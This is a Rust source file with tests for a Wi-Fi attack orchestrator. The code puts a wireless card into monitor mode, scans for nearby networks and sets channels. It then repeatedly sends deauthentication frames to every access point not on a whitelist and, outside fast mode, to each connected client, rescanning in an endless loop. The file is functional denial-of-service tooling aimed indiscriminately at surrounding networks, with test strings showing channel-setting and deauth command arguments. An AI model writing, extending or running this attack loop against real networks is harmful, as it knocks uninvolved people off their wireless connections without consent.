//! The attack loop state machine.
//!
//! One command is outstanding at a time. Its terminal event drives the next
//! transition; events for any other id are stale and ignored. Nothing here
//! blocks: store and importer calls are short synchronous queries, and
//! every external command goes through the [`CommandExecutor`].

use tokio::sync::mpsc;
use tracing::{debug, info, warn};

use crate::config::{CommandKind, Settings, SettingsSource, Slot, SlotValues};
use crate::store::{Network, ResultStore, ScanImporter, WhitelistProvider};
use crate::stream::StreamAggregator;
use crate::supervisor::{ProcessEvent, ProcessId};
use crate::telemetry::{self, AuditEvent, StopReason};

use super::commands::CommandBuilder;
use super::events::{InboundCommand, StatusEvent, TypeOut};
use super::executor::CommandExecutor;
use super::state::{AttackPhase, AttackState, WifiMode};

#[derive(Debug, Clone, Copy)]
struct Pending {
    id: ProcessId,
    kind: CommandKind,
}

/// Sequences monitor mode, scanning, channel hopping and deauthentication.
pub struct AttackOrchestrator<E: CommandExecutor> {
    executor: E,
    settings: Settings,
    builder: CommandBuilder,
    store: Box<dyn ResultStore>,
    importer: Box<dyn ScanImporter>,
    whitelist: Box<dyn WhitelistProvider>,
    settings_source: Option<Box<dyn SettingsSource>>,
    hud: Option<StreamAggregator>,
    events: mpsc::UnboundedSender<StatusEvent>,
    state: AttackState,
    phase: AttackPhase,
    pending: Option<Pending>,
    teardown: Option<ProcessId>,
}

impl<E: CommandExecutor> AttackOrchestrator<E> {
    /// Create an idle orchestrator publishing to `events`.
    pub fn new(
        executor: E,
        settings: Settings,
        store: Box<dyn ResultStore>,
        importer: Box<dyn ScanImporter>,
        whitelist: Box<dyn WhitelistProvider>,
        events: mpsc::UnboundedSender<StatusEvent>,
    ) -> Self {
        Self {
            executor,
            builder: CommandBuilder::new(&settings),
            state: AttackState::new(settings.max_attack_loop),
            settings,
            store,
            importer,
            whitelist,
            settings_source: None,
            hud: None,
            events,
            phase: AttackPhase::Idle,
            pending: None,
            teardown: None,
        }
    }

    /// Use `builder` instead of the default `PATH`-resolving one.
    #[must_use]
    pub fn with_builder(mut self, builder: CommandBuilder) -> Self {
        self.builder = builder;
        self
    }

    /// Where the `settings` command reloads from.
    #[must_use]
    pub fn with_settings_source(mut self, source: Box<dyn SettingsSource>) -> Self {
        self.settings_source = Some(source);
        self
    }

    /// Route scan output to a HUD aggregator.
    #[must_use]
    pub fn with_hud(mut self, hud: StreamAggregator) -> Self {
        self.hud = Some(hud);
        self
    }

    /// Current phase.
    #[must_use]
    pub fn phase(&self) -> AttackPhase {
        self.phase
    }

    /// Loop bookkeeping.
    #[must_use]
    pub fn state(&self) -> &AttackState {
        &self.state
    }

    /// Active settings.
    #[must_use]
    pub fn settings(&self) -> &Settings {
        &self.settings
    }

    /// Id of the command whose completion is awaited, if any.
    #[must_use]
    pub fn pending(&self) -> Option<ProcessId> {
        self.teardown.or(self.pending.map(|p| p.id))
    }

    /// Apply an operator command.
    pub fn handle_command(&mut self, command: InboundCommand) {
        debug!("Command {:?} in phase {}", command, self.phase);
        match command {
            InboundCommand::Scan => {
                if self.phase.is_active() {
                    self.type_out(format!("Already running ({}); stop the attack first", self.phase));
                    return;
                }
                self.start_cycle();
            }
            InboundCommand::StopAttack => self.stop(StopReason::Operator),
            InboundCommand::Settings => self.reload_settings(),
            InboundCommand::Whitelist => self.narrate_whitelist(),
        }
    }

    /// Apply a supervisor event.
    pub fn handle_process_event(&mut self, event: ProcessEvent) {
        match event {
            ProcessEvent::Output { id, chunk, .. } => {
                if self.state.active_scan == Some(id)
                    && let Some(ref hud) = self.hud
                {
                    hud.feed_text(chunk);
                }
            }
            ProcessEvent::Completed { id, code } => self.on_terminal(id, code, None),
            ProcessEvent::Failed { id, code, message } => self.on_terminal(id, code, Some(message)),
        }
    }

    /// Cancel for shutdown. Same as `stop_attack`, audited differently.
    pub fn shutdown(&mut self) {
        self.stop(StopReason::Shutdown);
    }

    fn start_cycle(&mut self) {
        self.state.cancel_requested = false;
        self.state.max_attack_loop = self.settings.max_attack_loop.max(1);
        self.emit(StatusEvent::AttackState(true));
        self.type_out(format!("Enabling monitor mode on {}", self.settings.wifi_card));
        info!("Starting attack cycle on {}", self.settings.wifi_card);
        telemetry::record(AuditEvent::CycleStart {
            wifi_card: self.settings.wifi_card.clone(),
            max_attack_loop: self.state.max_attack_loop,
        });

        let values = self.builder.base_values();
        self.issue(CommandKind::EnableMonitor, &values, AttackPhase::SettingMonitorMode);
    }

    fn on_terminal(&mut self, id: ProcessId, code: i32, failure: Option<String>) {
        if self.teardown == Some(id) {
            self.finish_teardown(code, failure);
            return;
        }

        let Some(pending) = self.pending.filter(|p| p.id == id) else {
            debug!("Ignoring stale completion of process {} (code {})", id, code);
            return;
        };
        self.pending = None;
        debug!("{} finished with code {}", pending.kind, code);

        if pending.kind == CommandKind::Scan {
            self.state.active_scan = None;
            self.emit(StatusEvent::ScannerState(false));
        }

        if self.state.cancel_requested {
            debug!("Cancelled; dropping {} completion", pending.kind);
            if self.teardown.is_none() {
                self.enter_stopped();
            }
            return;
        }

        if let Some(message) = failure {
            warn!("{} could not run: {}", pending.kind, message);
            self.abort(format!("{} could not run: {}", pending.kind, message));
            return;
        }

        match pending.kind {
            CommandKind::EnableMonitor => {
                self.set_mode(WifiMode::Monitor);
                self.launch_scan();
            }
            CommandKind::Scan => self.on_scan_complete(),
            CommandKind::SetChannel => {
                if let Some(channel) = self.state.target.as_ref().and_then(Network::attack_channel) {
                    self.state.last_channel = Some(channel);
                    telemetry::record(AuditEvent::ChannelSet { channel });
                }
                self.attack_broadcast();
            }
            CommandKind::DeauthBroadcast => {
                self.state.current_client_index = 0;
                self.select_client();
            }
            CommandKind::DeauthClient => self.select_client(),
            CommandKind::DisableMonitor => {
                self.set_mode(WifiMode::Managed);
                self.enter_idle();
            }
        }
    }

    fn launch_scan(&mut self) {
        if let Err(e) = self.store.clear() {
            warn!("Failed to clear previous results: {}", e);
        }
        if let Err(e) = self.importer.prepare() {
            warn!("Failed to remove old captures: {}", e);
        }
        self.state.last_channel = None;
        self.state.target = None;

        if let Some(ref hud) = self.hud {
            hud.reset(Some(&format!(
                "Scanning on {} for {}s",
                self.settings.wifi_card, self.settings.scan_time
            )));
        }
        self.type_out("Scanning for networks");

        let values = self.builder.base_values();
        if let Some(id) = self.issue(CommandKind::Scan, &values, AttackPhase::Scanning) {
            self.state.active_scan = Some(id);
            self.emit(StatusEvent::ScannerState(true));
        }
    }

    fn on_scan_complete(&mut self) {
        self.phase = AttackPhase::ImportingResults;
        match self.importer.import(self.store.as_ref()) {
            Ok(summary) => {
                info!(
                    "Imported {} networks and {} clients",
                    summary.networks, summary.clients
                );
                self.type_out(format!(
                    "Found {} networks and {} clients",
                    summary.networks, summary.clients
                ));
                telemetry::record(AuditEvent::ScanComplete {
                    networks: summary.networks,
                    clients: summary.clients,
                });
            }
            Err(e) => {
                warn!("Scan import failed: {}", e);
                self.type_out(format!("Could not load scan results: {}", e));
            }
        }

        self.state.current_network_index = 0;
        self.state.attack_loop_count = 1;
        self.select_network();
    }

    /// Walk the target list until a command is issued or a new cycle starts.
    fn select_network(&mut self) {
        // Set once this call has wrapped to the start of the list. A second
        // exhaustion means every remaining loop would be empty too.
        let mut wrapped = false;
        loop {
            self.phase = AttackPhase::SelectingNetwork;
            let index = self.state.current_network_index;

            // Unreadable whitelist or store means no target.
            let network = match self
                .whitelist
                .whitelist()
                .and_then(|whitelist| self.store.network_at(&whitelist, index))
            {
                Ok(network) => network,
                Err(e) => {
                    warn!("Target lookup failed: {}", e);
                    None
                }
            };

            let Some(network) = network else {
                self.state.current_network_index = 0;
                if wrapped || self.state.attack_loop_count >= self.state.max_attack_loop {
                    self.state.attack_loop_count = 1;
                    self.type_out("Attack loops finished; rescanning");
                    self.start_cycle();
                    return;
                }
                self.state.attack_loop_count += 1;
                debug!(
                    "Attack loop {}/{}",
                    self.state.attack_loop_count, self.state.max_attack_loop
                );
                wrapped = true;
                continue;
            };

            let Some(channel) = network.attack_channel() else {
                debug!("Skipping {} with unknown channel", network.bssid);
                self.state.current_network_index += 1;
                continue;
            };

            self.state.target = Some(network);
            if self.state.last_channel == Some(channel) {
                self.attack_broadcast();
            } else {
                self.type_out(format!("Setting channel {}", channel));
                let values = self.builder.base_values().with(Slot::Channel, channel);
                self.issue(CommandKind::SetChannel, &values, AttackPhase::SettingChannel);
            }
            return;
        }
    }

    fn attack_broadcast(&mut self) {
        let Some(network) = self.state.target.clone() else {
            self.select_network();
            return;
        };
        let channel = network.attack_channel().unwrap_or_default();
        let name = if network.ssid.is_empty() {
            "<hidden>"
        } else {
            network.ssid.as_str()
        };
        self.type_out(format!(
            "Deauthenticating {} ({}) on channel {}",
            name, network.bssid, channel
        ));
        telemetry::record(AuditEvent::DeauthBroadcast {
            bssid: network.bssid.clone(),
            channel,
            count: self.settings.deauth_count,
        });

        let values = self.builder.base_values().with(Slot::Bssid, &network.bssid);
        self.issue(CommandKind::DeauthBroadcast, &values, AttackPhase::AttackingBroadcast);
    }

    fn select_client(&mut self) {
        self.phase = AttackPhase::SelectingClient;
        let Some(network) = self.state.target.clone() else {
            self.next_network();
            return;
        };
        if self.settings.fast_mode {
            self.next_network();
            return;
        }

        let client = match self.store.client_at(&network.bssid, self.state.current_client_index) {
            Ok(client) => client,
            Err(e) => {
                warn!("Client lookup failed: {}", e);
                None
            }
        };
        let Some(client) = client else {
            self.next_network();
            return;
        };

        self.state.current_client_index += 1;
        self.type_out(format!(
            "Deauthenticating client {} of {}",
            client.client_bssid, network.bssid
        ));
        telemetry::record(AuditEvent::DeauthClient {
            bssid: network.bssid.clone(),
            client: client.client_bssid.clone(),
            count: self.settings.deauth_count,
        });

        let values = self
            .builder
            .base_values()
            .with(Slot::Bssid, &network.bssid)
            .with(Slot::ClientMac, &client.client_bssid);
        self.issue(CommandKind::DeauthClient, &values, AttackPhase::AttackingClient);
    }

    fn next_network(&mut self) {
        self.state.current_network_index += 1;
        self.select_network();
    }

    fn stop(&mut self, reason: StopReason) {
        if self.teardown.is_some() {
            self.type_out("Already stopping");
            return;
        }
        self.state.cancel_requested = true;
        info!("Stopping attack ({:?}) in phase {}", reason, self.phase);
        self.type_out("Stopping attack");
        telemetry::record(AuditEvent::AttackStop { reason });

        if let Some(scan) = self.state.active_scan.take() {
            if !self.executor.kill(scan) {
                debug!("Scan {} already finished", scan);
            }
            self.emit(StatusEvent::ScannerState(false));
        }

        let values = self.builder.base_values();
        match self.builder.build(CommandKind::DisableMonitor, &values) {
            Ok(request) => {
                let id = self.executor.execute(request);
                self.teardown = Some(id);
                self.phase = AttackPhase::SettingManagedMode;
                self.type_out(format!("Restoring managed mode on {}", self.settings.wifi_card));
            }
            Err(e) => {
                warn!("Cannot build {}: {}", CommandKind::DisableMonitor, e);
                self.type_out(format!("Cannot restore managed mode: {}", e));
                self.enter_stopped();
            }
        }
    }

    fn finish_teardown(&mut self, code: i32, failure: Option<String>) {
        self.teardown = None;
        self.pending = None;
        match failure {
            Some(message) => {
                warn!("Managed mode restore could not run: {}", message);
                self.type_out(format!("Managed mode restore failed: {}", message));
            }
            None => {
                debug!("Managed mode restored (code {})", code);
                self.set_mode(WifiMode::Managed);
            }
        }
        if self.state.cancel_requested {
            self.enter_stopped();
        } else {
            self.enter_idle();
        }
    }

    fn reload_settings(&mut self) {
        let Some(ref source) = self.settings_source else {
            self.type_out("Settings reload is not available");
            return;
        };
        match source.load_settings() {
            Ok(settings) => {
                self.builder.update(&settings);
                self.state.max_attack_loop = settings.max_attack_loop.max(1);
                self.settings = settings;
                info!("Settings reloaded");
                self.type_out("Settings reloaded");
            }
            Err(e) => {
                warn!("Settings reload failed: {}", e);
                self.type_out(format!("Settings reload failed, keeping previous settings: {}", e));
            }
        }
    }

    fn narrate_whitelist(&mut self) {
        match self.whitelist.whitelist() {
            Ok(list) if list.is_empty() => self.type_out("Whitelist is empty"),
            Ok(list) => {
                let mut lines = vec![format!("Whitelisted access points ({}):", list.len())];
                lines.extend(list);
                self.emit(StatusEvent::TypeOut(TypeOut::Lines(lines)));
            }
            Err(e) => self.type_out(format!("Could not read whitelist: {}", e)),
        }
    }

    /// Render and launch `kind`. A template error ends the cycle.
    fn issue(&mut self, kind: CommandKind, values: &SlotValues, next: AttackPhase) -> Option<ProcessId> {
        match self.builder.build(kind, values) {
            Ok(request) => {
                let id = self.executor.execute(request);
                self.pending = Some(Pending { id, kind });
                self.phase = next;
                Some(id)
            }
            Err(e) => {
                warn!("Cannot build {}: {}", kind, e);
                self.abort(format!("Cannot build {} command: {}", kind, e));
                None
            }
        }
    }

    fn abort(&mut self, message: String) {
        self.type_out(message);
        self.state.target = None;
        self.enter_idle();
    }

    fn set_mode(&mut self, mode: WifiMode) {
        if self.state.wifi_mode != mode {
            self.state.wifi_mode = mode;
        }
        self.emit(StatusEvent::ModeState(mode));
    }

    fn enter_idle(&mut self) {
        self.phase = AttackPhase::Idle;
        self.emit(StatusEvent::AttackState(false));
    }

    fn enter_stopped(&mut self) {
        self.phase = AttackPhase::Stopped;
        self.emit(StatusEvent::AttackState(false));
    }

    fn type_out(&self, message: impl Into<TypeOut>) {
        self.emit(StatusEvent::TypeOut(message.into()));
    }

    fn emit(&self, event: StatusEvent) {
        if self.events.send(event).is_err() {
            debug!("Status receiver dropped");
        }
    }
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;
    use std::sync::{Arc, Mutex};

    use super::*;
    use crate::config::ConfigError;
    use crate::store::{Client, ImportSummary, MemoryStore, StoreError};
    use crate::supervisor::ProcessRequest;

    #[derive(Clone, Default)]
    struct Recorder {
        launched: Arc<Mutex<Vec<(ProcessId, String)>>>,
        killed: Arc<Mutex<Vec<ProcessId>>>,
    }

    impl Recorder {
        fn commands(&self) -> Vec<String> {
            self.launched.lock().unwrap().iter().map(|(_, c)| c.clone()).collect()
        }

        fn last(&self) -> ProcessId {
            self.launched.lock().unwrap().last().unwrap().0
        }
    }

    impl CommandExecutor for Recorder {
        fn execute(&mut self, request: ProcessRequest) -> ProcessId {
            let mut launched = self.launched.lock().unwrap();
            let id = launched.len() as ProcessId + 1;
            launched.push((id, request.command().to_string()));
            id
        }

        fn kill(&mut self, id: ProcessId) -> bool {
            self.killed.lock().unwrap().push(id);
            true
        }
    }

    struct Rows {
        networks: Vec<Network>,
        clients: Vec<Client>,
    }

    impl ScanImporter for Rows {
        fn prepare(&self) -> Result<(), StoreError> {
            Ok(())
        }

        fn import(&self, store: &dyn ResultStore) -> Result<ImportSummary, StoreError> {
            store.upsert(&self.networks, &self.clients)?;
            Ok(ImportSummary {
                networks: self.networks.len(),
                clients: self.clients.len(),
            })
        }
    }

    struct FixedSource(Result<Settings, ()>);

    impl SettingsSource for FixedSource {
        fn load_settings(&self) -> Result<Settings, ConfigError> {
            self.0
                .clone()
                .map_err(|_| ConfigError::MissingValue("attack.wifi_card".into()))
        }
    }

    fn settings() -> Settings {
        let mut settings = Settings::embedded().unwrap();
        settings.max_attack_loop = 2;
        settings
    }

    fn orchestrator(
        settings: Settings,
        rows: Rows,
    ) -> (
        AttackOrchestrator<Recorder>,
        Recorder,
        MemoryStore,
        mpsc::UnboundedReceiver<StatusEvent>,
    ) {
        let recorder = Recorder::default();
        let store = MemoryStore::new();
        let (tx, rx) = mpsc::unbounded_channel();
        let builder = CommandBuilder::new(&settings).with_resolver(|_| None::<PathBuf>);
        let orchestrator = AttackOrchestrator::new(
            recorder.clone(),
            settings,
            Box::new(store.clone()),
            Box::new(rows),
            Box::new(store.clone()),
            tx,
        )
        .with_builder(builder);
        (orchestrator, recorder, store, rx)
    }

    fn complete<E: CommandExecutor>(orchestrator: &mut AttackOrchestrator<E>, id: ProcessId) {
        orchestrator.handle_process_event(ProcessEvent::Completed { id, code: 0 });
    }

    fn drain(rx: &mut mpsc::UnboundedReceiver<StatusEvent>) -> Vec<StatusEvent> {
        let mut events = Vec::new();
        while let Ok(event) = rx.try_recv() {
            events.push(event);
        }
        events
    }

    fn two_networks() -> Rows {
        Rows {
            networks: vec![
                Network::new("alpha", "AA:AA:AA:AA:AA:AA", Some(6)),
                Network::new("beta", "BB:BB:BB:BB:BB:BB", Some(6)),
            ],
            clients: vec![Client::new("11:11:11:11:11:11", Some("AA:AA:AA:AA:AA:AA"))],
        }
    }

    #[test]
    fn test_scan_enables_monitor_mode() {
        let (mut orch, recorder, _, mut rx) = orchestrator(settings(), two_networks());
        orch.handle_command(InboundCommand::Scan);

        assert_eq!(orch.phase(), AttackPhase::SettingMonitorMode);
        assert!(recorder.commands()[0].starts_with("ifconfig wlan0 down"));
        let events = drain(&mut rx);
        assert_eq!(events[0], StatusEvent::AttackState(true));
    }

    #[test]
    fn test_scan_refused_while_running() {
        let (mut orch, recorder, _, mut rx) = orchestrator(settings(), two_networks());
        orch.handle_command(InboundCommand::Scan);
        drain(&mut rx);
        orch.handle_command(InboundCommand::Scan);

        assert_eq!(recorder.commands().len(), 1);
        assert!(matches!(drain(&mut rx).as_slice(), [StatusEvent::TypeOut(_)]));
    }

    #[test]
    fn test_channel_set_once_per_channel() {
        let mut settings = settings();
        settings.fast_mode = true;
        let (mut orch, recorder, _, _rx) = orchestrator(settings, two_networks());
        orch.handle_command(InboundCommand::Scan);
        complete(&mut orch, recorder.last()); // monitor
        assert_eq!(orch.phase(), AttackPhase::Scanning);
        assert_eq!(orch.state().active_scan, Some(recorder.last()));
        complete(&mut orch, recorder.last()); // scan

        assert_eq!(orch.phase(), AttackPhase::SettingChannel);
        assert_eq!(recorder.commands()[2], "iw wlan0 set channel 6");
        complete(&mut orch, recorder.last());

        assert_eq!(orch.state().last_channel, Some(6));
        assert!(recorder.commands()[3].contains("-a AA:AA:AA:AA:AA:AA"));
        complete(&mut orch, recorder.last());

        // Fast mode skips clients; same channel skips the channel set.
        assert_eq!(orch.phase(), AttackPhase::AttackingBroadcast);
        assert!(recorder.commands()[4].contains("-a BB:BB:BB:BB:BB:BB"));
    }

    #[test]
    fn test_slow_mode_attacks_clients() {
        let mut settings = settings();
        settings.fast_mode = false;
        let (mut orch, recorder, _, _rx) = orchestrator(settings, two_networks());
        orch.handle_command(InboundCommand::Scan);
        for _ in 0..4 {
            complete(&mut orch, recorder.last()); // monitor, scan, channel, broadcast
        }

        assert_eq!(orch.phase(), AttackPhase::AttackingClient);
        assert!(recorder.commands()[4].contains("-c 11:11:11:11:11:11"));
        complete(&mut orch, recorder.last());

        assert!(recorder.commands()[5].contains("-a BB:BB:BB:BB:BB:BB"));
        assert!(!recorder.commands()[5].contains("-c "));
    }

    #[test]
    fn test_empty_scan_rescans_after_loops() {
        let rows = Rows {
            networks: Vec::new(),
            clients: Vec::new(),
        };
        let (mut orch, recorder, _, _rx) = orchestrator(settings(), rows);
        orch.handle_command(InboundCommand::Scan);
        complete(&mut orch, recorder.last());
        complete(&mut orch, recorder.last());

        assert_eq!(orch.phase(), AttackPhase::SettingMonitorMode);
        assert_eq!(orch.state().attack_loop_count, 1);
        assert_eq!(recorder.commands().len(), 3);
    }

    struct CountingWhitelist(Arc<Mutex<usize>>);

    impl WhitelistProvider for CountingWhitelist {
        fn whitelist(&self) -> Result<Vec<String>, StoreError> {
            *self.0.lock().unwrap() += 1;
            Ok(Vec::new())
        }
    }

    #[test]
    fn test_empty_results_skip_remaining_loops() {
        let mut settings = settings();
        settings.max_attack_loop = crate::config::MAX_ATTACK_LOOP;
        let lookups = Arc::new(Mutex::new(0));
        let recorder = Recorder::default();
        let store = MemoryStore::new();
        let (tx, _rx) = mpsc::unbounded_channel();
        let builder = CommandBuilder::new(&settings).with_resolver(|_| None::<PathBuf>);
        let rows = Rows {
            networks: Vec::new(),
            clients: Vec::new(),
        };
        let mut orch = AttackOrchestrator::new(
            recorder.clone(),
            settings,
            Box::new(store),
            Box::new(rows),
            Box::new(CountingWhitelist(Arc::clone(&lookups))),
            tx,
        )
        .with_builder(builder);

        orch.handle_command(InboundCommand::Scan);
        complete(&mut orch, recorder.last());
        complete(&mut orch, recorder.last());

        assert_eq!(orch.phase(), AttackPhase::SettingMonitorMode);
        assert_eq!(*lookups.lock().unwrap(), 2);
        assert_eq!(orch.state().attack_loop_count, 1);
    }

    #[test]
    fn test_stop_kills_scan_and_ignores_late_completion() {
        let (mut orch, recorder, _, mut rx) = orchestrator(settings(), two_networks());
        orch.handle_command(InboundCommand::Scan);
        complete(&mut orch, recorder.last());
        let scan = recorder.last();
        drain(&mut rx);

        orch.handle_command(InboundCommand::StopAttack);
        assert_eq!(*recorder.killed.lock().unwrap(), vec![scan]);
        assert_eq!(orch.phase(), AttackPhase::SettingManagedMode);
        let teardown = recorder.last();
        assert!(recorder.commands()[2].contains("mode managed"));

        complete(&mut orch, scan);
        assert_eq!(recorder.commands().len(), 3);
        assert_eq!(orch.phase(), AttackPhase::SettingManagedMode);

        complete(&mut orch, teardown);
        assert_eq!(orch.phase(), AttackPhase::Stopped);
        assert_eq!(orch.state().wifi_mode, WifiMode::Managed);
        assert!(drain(&mut rx).contains(&StatusEvent::AttackState(false)));

        orch.handle_command(InboundCommand::Scan);
        assert!(!orch.state().cancel_requested);
        assert_eq!(orch.phase(), AttackPhase::SettingMonitorMode);
    }

    #[test]
    fn test_spawn_failure_returns_to_idle() {
        let (mut orch, recorder, _, _rx) = orchestrator(settings(), two_networks());
        orch.handle_command(InboundCommand::Scan);
        orch.handle_process_event(ProcessEvent::Failed {
            id: recorder.last(),
            code: -1,
            message: "No such file or directory".into(),
        });
        assert_eq!(orch.phase(), AttackPhase::Idle);
        assert_eq!(recorder.commands().len(), 1);
    }

    #[test]
    fn test_settings_reload_keeps_old_on_error() {
        let (orch, _, _, mut rx) = orchestrator(settings(), two_networks());
        let mut orch = orch.with_settings_source(Box::new(FixedSource(Err(()))));
        orch.handle_command(InboundCommand::Settings);
        assert_eq!(orch.settings().max_attack_loop, 2);
        assert!(drain(&mut rx)[0].to_string().contains("keeping previous settings"));

        let mut fresh = settings();
        fresh.wifi_card = "wlan9".into();
        let mut orch = orch.with_settings_source(Box::new(FixedSource(Ok(fresh))));
        orch.handle_command(InboundCommand::Settings);
        assert_eq!(orch.settings().wifi_card, "wlan9");
    }

    #[test]
    fn test_whitelist_narration() {
        let (mut orch, _, store, mut rx) = orchestrator(settings(), two_networks());
        orch.handle_command(InboundCommand::Whitelist);
        assert_eq!(drain(&mut rx), vec![StatusEvent::type_out("Whitelist is empty")]);

        store.set_whitelist(["AA:AA:AA:AA:AA:AA"]);
        orch.handle_command(InboundCommand::Whitelist);
        match drain(&mut rx).as_slice() {
            [StatusEvent::TypeOut(TypeOut::Lines(lines))] => {
                assert_eq!(lines.len(), 2);
                assert_eq!(lines[1], "AA:AA:AA:AA:AA:AA");
            }
            other => panic!("unexpected events: {other:?}"),
        }
    }
}
